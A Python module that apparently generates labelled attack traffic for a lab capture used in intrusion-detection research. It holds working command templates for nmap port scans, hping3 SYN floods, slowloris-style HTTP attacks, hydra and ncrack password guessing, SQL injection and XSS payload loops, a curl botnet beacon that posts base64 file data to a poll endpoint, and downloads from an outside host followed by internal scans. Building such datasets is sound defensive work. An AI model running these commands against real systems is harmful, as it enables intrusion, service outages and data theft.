"""The attacks of the lab capture, one `Activity` for each variant; `activity` explains how commands are written.

Each attack is bounded: its options limit how much it sends, and the activity limits how long it takes.
"""

from __future__ import annotations

from dataclasses import replace

from .activity import UDP, WEB, Activity

_SCAN = "nmap -Pn -n -e eth0"
_FLOOD = "for p in {sports}; do hping3 -q -n -S -p PORT -s $p -c {i[8-16]} -i u{i[200-20000]} {server}; done"
_SLOW = f"slowhttptest -u {WEB}/page{{i[1-40]}}.html -l {{i[4-6]}} -c {{i[25-50]}} -r {{i[15-40]}} -p 2"
_POLL = f"{WEB}/app/poll?bot={{word}}"
_FETCH = "{one[curl -s -o /dev/null,wget -q -O /dev/null,curl -s --limit-rate 90k -o /dev/null]} "
_FETCH += "http://{outside}{one[,:8080]}/file{i[1-6]}.bin; sleep {f[0.1-0.8]}; nmap -n -e eth0"
_LINES = "tail -n +{i[1-12]} {dir}/FILE | head -n {i[6-16]} | while read -r q; do"

_PORTSCAN = (
    # nmap itself chooses source ports above the kernel's range. So each scanner gets one within it (-g; with -sT the
    # kernel chooses), and several scanners at once spread the ports.
    Activity("Portscan", "SYN scan", _SCAN + " -sS -T{i[3-5]} -g {sport} -p {ports} {target}", copies=2),
    Activity("Portscan", "connect scan", _SCAN + " -sT -T{i[3-4]} -p {ports} {target}", copies=2),
    Activity(
        "Portscan",
        "slow SYN scan",
        _SCAN + " -sS --scan-delay {i[20-100]}ms -g {sport} -p {ports} {target}",
        copies=3,
    ),
    Activity(
        "Portscan",
        "FIN, Xmas or null scan",
        _SCAN + " {one[-sF,-sX,-sN]} -T4 --max-retries {i[0-1]} -g {sport} -p {ports} {target}",
        copies=2,
    ),
    Activity(
        "Portscan",
        "ACK or Maimon scan",
        _SCAN + " {one[-sA,-sM]} -T{i[3-4]} --max-retries 1 -g {sport} -p {ports} {target}",
    ),
    Activity(
        "Portscan",
        "UDP scan",
        _SCAN + " -sU -T4 --max-retries {i[0-1]} -g {sport} -p {ports} {target}",
        proto=UDP,
        copies=2,
    ),
    Activity("Portscan", "version scan", _SCAN + " -sT -sV --version-light -p {ports} {target}", seconds=9.0),
)
_DOS = (
    # hping3 counts its source port up from a base. So many short runs, each from its own base, spread the ports. They
    # run one after another, because each hping3 would count another's replies as its own and stop early.
    Activity("DoS", "SYN flood", _FLOOD.replace("PORT", "{one[80,8080]}"), weight=4),
    Activity("DoS", "SYN flood on SSH", _FLOOD.replace("PORT", "22"), 22),
    Activity("DoS", "SYN flood on DNS", _FLOOD.replace("PORT", "53"), 53),
    Activity(
        "DoS",
        "GET flood",
        "curl -s -Z --parallel-max {i[8-20]} -H 'Connection: close' -H 'Cache-Control: no-cache' "
        f"'{WEB}/{{one[page3.html,page9.html,app/search]}}?q={{word}}[1-{{i[60-120]}}]'",
        weight=2,
    ),
    Activity("DoS", "slow headers", _SLOW + " -H -i {i[1-3]} -x {i[8-40]}", weight=2),
    Activity("DoS", "slow body", _SLOW + " -B -i {i[1-3]} -s {i[1000-9000]} -x {i[8-40]}", weight=2),
    Activity("DoS", "slow read", _SLOW + " -X -w {i[10-60]} -y {i[100-600]} -n 1 -z {i[16-200]} -k {i[1-3]}"),
    Activity("DoS", "range headers", _SLOW + " -R -a {i[1-20]} -b {i[200-900]}"),
)
# The list of words never contains the password, so the guessing fails until its end.
_BRUTE_FORCE = (
    Activity(
        "Brute force",
        "SSH guessing, hydra",
        "hydra -I -t {i[2-4]} -l {user} -P {words} ssh://{server}",
        22,
        weight=2,
        seconds=2.6,
    ),
    Activity(
        "Brute force",
        "SSH spraying, hydra",
        "hydra -I -u -t {i[2-4]} -L {words} -p {word} ssh://{server}",
        22,
        seconds=2.6,
    ),
    Activity(
        "Brute force",
        "FTP guessing, hydra",
        "hydra -I -t {i[8-16]} -l {user} -P {words} ftp://{server}",
        21,
        weight=3,
        seconds=2.6,
    ),
    Activity(
        "Brute force",
        "FTP guessing, ncrack",
        "ncrack -T{i[3-5]} -g CL=16,at={i[1-3]} --user {user} -P {words} ftp://{server}",
        21,
        weight=2,
        seconds=6.0,
    ),
)
_WEB_ATTACK = (
    Activity(
        "Web attack",
        "SQL injection, search",
        _LINES.replace("FILE", "sql.txt")
        + f' curl -s -G --data-urlencode "q=$q" {WEB}/app/search; sleep {{f[0.0-0.3]}}; done',
        copies=2,
    ),
    Activity(
        "Web attack",
        "SQL injection, login",
        _LINES.replace("FILE", "sql.txt")
        + f' curl -s -d password=x --data-urlencode "user=$q" {WEB}/app/login; sleep {{f[0.0-0.3]}}; done',
        copies=2,
    ),
    Activity(
        "Web attack",
        "XSS, search",
        _LINES.replace("FILE", "xss.txt")
        + f' curl -s -G --data-urlencode "q=$q" {WEB}/app/search; sleep {{f[0.0-0.3]}}; done',
        copies=2,
    ),
    Activity(
        "Web attack",
        "XSS, guest book",
        _LINES.replace("FILE", "xss.txt")
        + f' curl -s -d name={{word}} --data-urlencode "text=$q" {WEB}/app/guests; sleep {{f[0.0-0.3]}}; done',
        copies=2,
    ),
    Activity(
        "Web attack",
        "form guessing, curl",
        "head -n {i[20-50]} {words} | while read -r p; do"
        f' curl -s -d "user={{user}}&password=$p" {WEB}/app/login; done',
    ),
    Activity(
        "Web attack",
        "form guessing in one connection",
        f"head -n {{i[40-90]}} {{words}} | sed 's|.*|url=\"{WEB}/app/login?user={{user}}\\&password=&\"|'"
        " | split -l {i[3-8]} --filter='curl -s -K -'",
    ),
    Activity(
        "Web attack",
        "form guessing, hydra",
        "head -n {i[20-50]} {words} > {words}.few; hydra -I -t {i[2-6]} -l {user} -P {words}.few"
        " -s {one[80,80,8080]} {server} http-post-form '/app/login:user=^USER^&password=^PASS^:wrong'",
    ),
)
# An answer that begins with "run" is a command. The beacon runs nothing; it sends the answer back as the result.
_BEACON = (
    f"for s in {{beats}}; do r=$(curl -s -A {{one[bot,Mozilla/5.0,curl/8]}} '{_POLL}');"
    f" case $r in run*) curl -s -d \"$r\" '{_POLL}';; esac; sleep $s; done"
)
_BOTNET = (
    Activity("Botnet", "beacon", _BEACON, weight=2, seconds=9.0),
    Activity("Botnet", "two beacons", _BEACON, weight=2, copies=2, seconds=9.0),
    Activity(
        "Botnet",
        "beacon, several polls in a connection",
        f"for s in {{beats}}; do echo 'url=\"{_POLL}\"'; sleep $s; done | split -l {{i[2-4]}} --filter='curl -s -K -'",
        copies=2,
        seconds=9.0,
    ),
    Activity(
        "Botnet",
        "beacon with a long answer",
        "for s in {beats}; do head -c {i[100-900]} {dir}/www/file6.bin | base64 | curl -s --data-binary @- "
        f"'{_POLL}'; sleep $s; done",
        copies=2,
        seconds=9.0,
    ),
)
_INFILTRATION = (
    Activity(
        "Infiltration",
        "file, then connect scan",
        _FETCH + " -Pn -sT --scan-delay {i[10-70]}ms --top-ports {i[8-22]} {peers} {inside}",
        weight=3,
    ),
    Activity(
        "Infiltration",
        "file, then slow SYN scan",
        _FETCH + " -Pn -sS --scan-delay {i[30-110]}ms -g {sport} --top-ports {i[8-22]} {peers} {inside}",
        weight=2,
    ),
    Activity(
        "Infiltration",
        "file, then versions of services",
        _FETCH + " -Pn -sT -sV --version-light -p 21-23,80,443,445,3306,8080 {peers} {inside}",
        seconds=9.0,
    ),
    # The servers are not scanned, because ICMP between them and the clients is Normal.
    Activity(
        "Infiltration",
        "file, then UDP scan",
        _FETCH + " -Pn -sU -T4 --max-retries {i[0-1]} -g {sport} --top-ports {i[8-20]} {peers}",
        proto=None,
    ),
    Activity(
        "Infiltration",
        "file, then sweep and connect scan",
        _FETCH + " --disable-arp-ping -PE -PS22,80 -PA443 -sT -T3 --top-ports {i[8-20]} {peers}",
        proto=None,
    ),
)

# Attackers are outside the network and attack it. Clients are inside, and malware on them scans it and reports.
# Both have Botnet beacons.
_OUTSIDE = (*_PORTSCAN, *_DOS, *_BRUTE_FORCE, *_WEB_ATTACK)
ATTACKS = (
    *(replace(a, hosts="attacker") for a in _OUTSIDE),
    *(replace(a, hosts="client") for a in _INFILTRATION),
    *_BOTNET,
)
